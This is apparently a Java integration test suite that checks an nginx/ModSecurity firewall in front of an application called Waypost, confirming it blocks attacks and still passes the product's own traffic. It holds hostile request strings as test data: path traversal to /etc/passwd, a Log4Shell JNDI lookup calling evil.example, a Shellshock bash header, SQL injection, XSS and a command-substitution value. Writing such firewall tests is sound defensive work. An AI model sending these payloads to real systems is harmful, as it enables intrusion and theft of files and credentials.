package io.waypost.access.edge;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.waypost.access.Role;
import io.waypost.testing.TestTenant;
import io.waypost.testing.WaypostTest;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIf;
import org.junit.jupiter.api.io.TempDir;

import org.springframework.boot.test.web.server.LocalServerPort;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * nginx with the core rule set in front of Waypost: blocks the attacks of
 * edge/attacks.txt and lets the product's own traffic pass. Requests without a valid
 * credential are used where a valid one would change data of other tests: the firewall
 * does not know credentials.
 */
@WaypostTest
@EnabledIf(value = "isProxyInstalled",
		disabledReason = "Not installed: apt-get install nginx libnginx-mod-http-modsecurity modsecurity-crs")
class FirewallIntegrationTests {

	private static final ObjectMapper JSON = new ObjectMapper();

	private static final byte[] EMPTY = {};

	/** Refused by nginx itself: a path above the root, an unknown method. */
	private static final Set<Integer> NGINX_REFUSALS = Set.of(400, 405);

	/** Attacks that a stricter level would block, together with ordinary requests. */
	private static final String NOT_BLOCKED = "not blocked at paranoia level 1";

	private static final String BROWSER = "\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
			+ "\nAccept: text/html,application/json,*/*;q=0.8";

	@TempDir
	private static Path directory;

	private static InstalledProxy proxy;

	static boolean isProxyInstalled() {
		return InstalledProxy.isInstalled();
	}

	@BeforeAll
	static void start(@LocalServerPort int port) throws Exception {
		proxy = InstalledProxy.start(directory, port);
	}

	@AfterAll
	static void stop() throws InterruptedException {
		proxy.close();
	}

	@Test
	void blocksAttacksInQueriesFormsAndJson() throws IOException {
		Map<String, int[]> kinds = new TreeMap<>();
		List<String> passed = new ArrayList<>();
		for (Map.Entry<String, List<String>> kind : attacks().entrySet()) {
			int[] counts = kinds.computeIfAbsent(kind.getKey(), (key) -> new int[2]);
			for (String payload : kind.getValue()) {
				for (Map.Entry<String, Request> attack : requests(payload).entrySet()) {
					counts[0]++;
					if (isRefused(attack.getValue())) {
						counts[1]++;
					}
					else {
						passed.add("%s in %s: %s".formatted(kind.getKey(), attack.getKey(), payload));
					}
				}
			}
		}
		passed.removeIf((attack) -> attack.startsWith(NOT_BLOCKED));
		kinds.forEach((kind, counts) -> System.out.printf("%s: %d of %d blocked%n", kind, counts[1], counts[0]));
		assertThat(passed).isEmpty();
		assertThat(kinds.values().stream().mapToInt((counts) -> counts[0]).sum()).isGreaterThan(250);
	}

	@Test
	void blocksAttacksOnPathHeadersAndProtocol() {
		List<String> heads = List.of("GET /assets/../../../../etc/passwd HTTP/1.1" + BROWSER,
				"GET /assets/..%2f..%2f..%2fetc%2fpasswd HTTP/1.1" + BROWSER,
				"GET /assets/%252e%252e/%252e%252e/etc/passwd HTTP/1.1" + BROWSER,
				"GET /.git/config HTTP/1.1" + BROWSER, "GET /.env HTTP/1.1" + BROWSER,
				"GET /backup.sql HTTP/1.1" + BROWSER, "GET /%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" + BROWSER,
				"GET /login HTTP/1.1\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)",
				"GET /login HTTP/1.1\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
				"GET /login HTTP/1.1\nUser-Agent: masscan/1.3",
				"GET /login HTTP/1.1\nUser-Agent: Nmap Scripting Engine", "GET /login HTTP/1.1\nUser-Agent: w3af.org",
				"GET /login HTTP/1.1\nUser-Agent: ${jndi:ldap://evil.example/a}",
				"GET /login HTTP/1.1\nUser-Agent: () { :; }; /bin/bash -c \"id\"",
				"GET /login HTTP/1.1\nUser-Agent: <script>alert(1)</script>",
				"GET /login HTTP/1.1" + BROWSER + "\nCookie: id=' UNION SELECT password FROM users--",
				"GET /login HTTP/1.1" + BROWSER + "\nX-Api-Version: ${jndi:ldap://evil.example/a}",
				"TRACE /login HTTP/1.1" + BROWSER, "DEBUG /login HTTP/1.1" + BROWSER,
				"POST /v1/track?debug='%20OR%201=1-- HTTP/1.1" + BROWSER + "\nContent-Type: application/json",
				"GET /t/c/%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" + BROWSER);
		assertThat(heads).allSatisfy((head) -> assertThat(answer(new Request(head, EMPTY))).as(head)
			.matches((response) -> response.isRefusedByTheProxy() || NGINX_REFUSALS.contains(response.status())));
	}

	@Test
	void blocksOversizedAndMalformedBodies() throws IOException {
		String json = "POST /api/v1/users HTTP/1.1" + BROWSER + "\nContent-Type: application/json";
		assertThat(
				proxy.send("POST /v1/batch HTTP/1.1" + BROWSER + "\nContent-Type: application/json", new byte[21 << 20])
					.status())
			.isEqualTo(413);
		assertThat(proxy.send(json, ("{\"name\": \"" + "a".repeat(2 << 20) + "\"}").getBytes(StandardCharsets.UTF_8))
			.status()).isIn(400, 403, 413);
		assertThat(proxy.send(json, "{\"name\": ".getBytes(StandardCharsets.UTF_8)).status()).isEqualTo(400);
		assertThat(proxy.send(json, ("[".repeat(1000) + "]".repeat(1000)).getBytes(StandardCharsets.UTF_8)).status())
			.isIn(400, 403);
		assertThat(isRefused(new Request(
				"POST /api/v1/users HTTP/1.1" + BROWSER + "\nContent-Type: application/x-java-serialized-object",
				new byte[] { 1 })))
			.isTrue();
		assertThat(proxy.send("GET /login HTTP/1.1\nX-Filler: " + "a".repeat(40_000), EMPTY).status()).isIn(400, 431);
	}

	@Test
	void passesEventsWithTextOfAnyKind() throws IOException {
		String key = "\nAuthorization: Basic "
				+ Base64.getEncoder().encodeToString((TestTenant.WRITE_KEY + ":").getBytes(StandardCharsets.UTF_8));
		List<String> payloads = attacks().values().stream().flatMap(List::stream).toList();
		for (int i = 0; i < payloads.size(); i++) {
			String event = JSON.writeValueAsString(Map.of("type", "track", "messageId", "firewall-" + i, "userId",
					"firewall-test", "event", "Search Performed", "properties",
					Map.of("title", payloads.get(i), "list", List.of(Map.of("html", payloads.get(i))))));
			InstalledProxy.Response response = proxy.send(
					"POST /v1/track HTTP/1.1" + BROWSER + key + "\nContent-Type: application/json",
					event.getBytes(StandardCharsets.UTF_8));
			assertThat(response.status()).as(event + response.body()).isEqualTo(200);
		}
	}

	@Test
	void passesTheExamplesOfTheApi() throws IOException {
		JsonNode examples = JSON.readTree(Files.readString(Path.of("src/main/resources/openapi/examples.json")));
		List<String> refused = new ArrayList<>();
		int[] sent = new int[1];
		examples.fields().forEachRemaining((example) -> {
			JsonNode body = example.getValue().path("request");
			String type = body.isTextual() ? "text/csv" : "application/json";
			byte[] bytes = body.isMissingNode() ? EMPTY
					: (body.isTextual() ? body.textValue() : body.toString()).getBytes(StandardCharsets.UTF_8);
			String head = filled(example.getKey())
					+ " HTTP/1.1\nAccept: application/json\nUser-Agent: curl/8.5.0\nAuthorization: Bearer none"
					+ ((bytes.length > 0) ? "\nContent-Type: " + type : "");
			sent[0]++;
			if (isRefused(new Request(head, bytes))) {
				refused.add(example.getKey());
			}
		});
		assertThat(refused).isEmpty();
		assertThat(sent[0]).isGreaterThan(50);
	}

	@Test
	void passesEveryPathOfTheProduct() throws IOException {
		Set<String> paths = new HashSet<>();
		for (String line : Files.readAllLines(Path.of("src/test/resources/access/matrix.txt"))) {
			if (line.matches("(GET|POST|PUT|DELETE) /.*") && !line.endsWith(": CLOSED")
					&& !line.startsWith("GET /actuator")) {
				paths.add(filled(line.substring(0, line.indexOf(": "))));
			}
		}
		List<String> refused = paths.parallelStream()
			.filter((path) -> isRefused(new Request(path + " HTTP/1.1" + BROWSER, EMPTY)))
			.toList();
		assertThat(refused).isEmpty();
		assertThat(paths).hasSizeGreaterThan(150);
		assertThat(proxy.send("GET /actuator/health HTTP/1.1" + BROWSER, EMPTY).status()).as("for the internal network")
			.isEqualTo(404);
	}

	@Test
	void passesPagesAndFormsOfASession() throws IOException {
		String session = signIn();
		List<String> pages = List.of("/", "/campaigns", "/campaigns/new", "/templates", "/segments", "/messages",
				"/profiles?q=O'Brien+%26+Sons", "/profiles?q=ada%40example.org", "/journeys", "/decision-tables",
				"/settings", "/audit-log", "/failed-events", "/experiments", "/assets/waypost.css",
				"/camunda/app/tasklist/default/");
		for (String page : pages) {
			assertPasses("GET " + page + " HTTP/1.1" + BROWSER + session, EMPTY);
		}
		Map<String, Map<String, String>> forms = Map.of("/templates", Map.of("key", "sale", "subject",
				"Drop everything; select yours & save -- 50 %", "body",
				"<p style=\"color:red\" onclick=\"x\">{% if cart %}{{ cart.total | times: 2 }}{% endif %}</p> <script>no</script>"),
				"/segments",
				Map.of("name", "buyers", "text", "country in ('DE', 'FR') and count(order) >= 2 or not tag like 'x%'"),
				"/campaigns", Map.of("name", "Union Select Store: drop table sale", "goal", "1=1 or more; exec"),
				"/settings/password",
				Map.of("password", "' OR 1=1-- <script>", "newPassword", "$(cat /etc/passwd); drop table x"),
				"/settings/users", Map.of("name", "sinead.o'neill@example.org"));
		forms.forEach((path, fields) -> assertPasses(
				"POST " + path + " HTTP/1.1" + BROWSER + session + "\nContent-Type: application/x-www-form-urlencoded",
				form(fields)));
	}

	@Test
	void passesModelsTemplatesAndReports() throws IOException {
		for (String folder : List.of("processes", "dmn", "forms")) {
			try (Stream<Path> models = Files.list(Path.of(folder))) {
				for (Path model : models.toList()) {
					String part = "--b0undary\r\nContent-Disposition: form-data; name=\"data\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\n%s\r\n--b0undary--\r\n"
						.formatted(model.getFileName(), Files.readString(model));
					assertPasses(
							"POST /engine-rest/deployment/create HTTP/1.1\nUser-Agent: Camunda Modeler\nAuthorization: Bearer none\nContent-Type: multipart/form-data; boundary=b0undary",
							part.getBytes(StandardCharsets.UTF_8));
				}
			}
		}
		InstalledProxy.Response rendered = proxy.send(
				"POST /api/v1/liquid/renders HTTP/1.1\nUser-Agent: curl/8.5.0\nAuthorization: Bearer "
						+ TestTenant.TOKEN + "\nContent-Type: application/json",
				JSON.writeValueAsBytes(Map.of("template", "<b>{{ 'select * from x' | upcase }}</b>")));
		assertThat(rendered.isRefusedByTheProxy()).as(rendered.body()).isFalse();
		String sendGrid = "[{\"email\":\"ada@example.org\",\"event\":\"bounce\",\"reason\":\"550 5.1.1 <ada@example.org>: Recipient address rejected; select another\",\"sg_event_id\":\"ZHJvcC0x\",\"smtp-id\":\"<14c5d75ce93.dfd.64b469@ismtpd-555>\",\"url\":\"https://shop.example/?a=1&b=../x\",\"useragent\":\"Mozilla/5.0 <script>\"}]";
		assertPasses("POST /webhooks/sendgrid HTTP/1.1\nUser-Agent: SendGrid Event API\nContent-Type: application/json",
				sendGrid.getBytes(StandardCharsets.UTF_8));
		assertPasses(
				"POST /webhooks/ses HTTP/1.1\nUser-Agent: Amazon Simple Notification Service Agent\nContent-Type: text/plain; charset=UTF-8",
				sendGrid.getBytes(StandardCharsets.UTF_8));
	}

	@Test
	void passesLinksOfEmails() throws IOException {
		Random random = new Random(7);
		for (int i = 0; i < 40; i++) {
			byte[] mac = new byte[16 + i % 17];
			random.nextBytes(mac);
			String token = "k1.%s.%d.%s".formatted(new UUID(random.nextLong(), random.nextLong()), i % 20,
					Base64.getUrlEncoder().withoutPadding().encodeToString(mac));
			assertPasses("GET /t/c/" + token + " HTTP/1.1" + BROWSER, EMPTY);
			assertPasses("GET /t/o/" + token + " HTTP/1.1\nUser-Agent: Mozilla/5.0 (via ggpht.com GoogleImageProxy)",
					EMPTY);
			assertPasses("POST /u/" + token
					+ " HTTP/1.1\nUser-Agent: Google-Unsubscribe\nContent-Type: application/x-www-form-urlencoded",
					"List-Unsubscribe=One-Click".getBytes(StandardCharsets.UTF_8));
		}
	}

	private static void assertPasses(String head, byte[] body) {
		InstalledProxy.Response response = answer(new Request(head, body));
		assertThat(response.isRefusedByTheProxy()).as(head + " " + response.body()).isFalse();
		assertThat(response.status()).as(head + " " + response.body()).isNotIn(413, 415, 502, 503, 504);
	}

	private String signIn() throws IOException {
		InstalledProxy.Response page = proxy.send("GET /login HTTP/1.1" + BROWSER, EMPTY);
		String cookie = cookie(page);
		String csrf = page.body().replaceAll("(?s).*name=\"_csrf\"[^>]*value=\"([^\"]+)\".*", "$1");
		InstalledProxy.Response signedIn = proxy.send(
				"POST /login HTTP/1.1" + BROWSER + "\nCookie: " + cookie
						+ "\nContent-Type: application/x-www-form-urlencoded",
				form(Map.of("username", TestTenant.user(Role.ADMIN), "password", TestTenant.PASSWORD, "_csrf", csrf)));
		assertThat(signedIn.status()).as(signedIn.head() + signedIn.body()).isEqualTo(302);
		return "\nCookie: " + cookie(signedIn);
	}

	private static String cookie(InstalledProxy.Response response) {
		return response.head().replaceAll("(?is).*set-cookie: ([^;]+);.*", "$1");
	}

	/** The same text in a parameter, a form field and a JSON string. */
	private static Map<String, Request> requests(String payload) {
		Map<String, Request> requests = new LinkedHashMap<>();
		requests.put("query", new Request("GET /profiles?q=" + encoded(payload) + " HTTP/1.1" + BROWSER, EMPTY));
		requests.put("form",
				new Request("POST /login HTTP/1.1" + BROWSER + "\nContent-Type: application/x-www-form-urlencoded",
						form(Map.of("username", payload))));
		requests.put("JSON", new Request("POST /api/v1/users HTTP/1.1" + BROWSER + "\nContent-Type: application/json",
				("{\"name\": " + JSON.valueToTree(payload) + "}").getBytes(StandardCharsets.UTF_8)));
		return requests;
	}

	private static boolean isRefused(Request request) {
		return answer(request).isRefusedByTheProxy();
	}

	private static InstalledProxy.Response answer(Request request) {
		try {
			return proxy.send(request.head(), request.body());
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/** A path with values instead of its variables. */
	private static String filled(String path) {
		return path.replaceAll("\\{(key|name|type|topic|esp)}", "welcome")
			.replaceAll("\\{version}", "3")
			.replaceAll("\\{[^}]+}", "01a22e50-ac93-7000-be84-46d6909274e6");
	}

	private static byte[] form(Map<String, String> fields) {
		return fields.entrySet()
			.stream()
			.map((field) -> field.getKey() + "=" + encoded(field.getValue()))
			.reduce((first, second) -> first + "&" + second)
			.orElseThrow()
			.getBytes(StandardCharsets.UTF_8);
	}

	private static String encoded(String text) {
		return URLEncoder.encode(text, StandardCharsets.UTF_8);
	}

	private static Map<String, List<String>> attacks() throws IOException {
		Map<String, List<String>> attacks = new LinkedHashMap<>();
		List<String> kind = List.of();
		for (String line : Files.readAllLines(Path.of("src/test/resources/edge/attacks.txt"))) {
			if (line.startsWith("[")) {
				kind = new ArrayList<>();
				attacks.put(line.substring(1, line.length() - 1), kind);
			}
			else if (!line.startsWith("#")) {
				kind.add(line);
			}
		}
		return attacks;
	}

	private record Request(String head, byte[] body) {

	}

}
